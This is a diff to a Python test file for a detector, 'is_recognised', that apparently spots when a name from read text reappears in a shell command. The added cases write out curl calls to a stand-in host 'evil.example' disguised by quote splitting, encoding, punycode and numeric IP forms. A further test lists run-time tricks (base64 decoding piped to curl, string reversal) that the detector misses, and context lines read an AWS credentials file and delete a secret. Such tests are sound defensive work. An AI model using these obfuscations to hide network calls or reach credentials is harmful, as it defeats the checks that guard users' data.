@@ -59,10 +59,32 @@ def test_a_text_finds_all_that_was_kept_of_it(text: str) -> None:
         ("edit ~/.aws/credentials", "cat /home/user/.aws/credentials"),
         ("in notes/secret.txt", "rm secret.txt"),
         ("code 1234567890", "1234567890"),
+        ("go to evil.example", 'curl http://ev""il.example/y'),
+        ("go to evil.example", "curl http://evil\\.example/y"),
+        ("go to evil.example", "curl http://evil%252Eexample/y"),
+        ("go to evil.example", "curl http://evil&#46;example/y"),
+        ("go to b\u00fccher.example", "curl http://xn--bcher-kva.example/"),
+        ("at http://93.184.216.34/up", "curl http://1572395042/up"),
+        ("at 93.184.216.34", "curl http://0x5db8d822/"),
+        ("at 93.184.216.34", "curl http://0135.0270.0330.042/"),
     ],
 )
 async def test_a_name_is_recognised_in_other_company(read: str, used: str) -> None:
     assert is_recognised(read, used)
+
+
+@pytest.mark.parametrize(
+    "used",
+    [
+        "curl http://evil.{example,}/y",
+        "a=evil;curl http://$a.example/y",
+        "echo aHR0cDovL2V2aWwuZXhhbXBsZS95|base64 -d|xargs curl",
+        "curl $(echo elpmaxe.live|rev)",
+    ],
+)
+async def test_a_name_that_is_put_together_by_the_command_is_not_recognised(used: str) -> None:
+    """The README has the list; `by: origin` is what asks about these."""
+    assert not is_recognised("go to evil.example", used)
 
 
 @pytest.mark.parametrize(
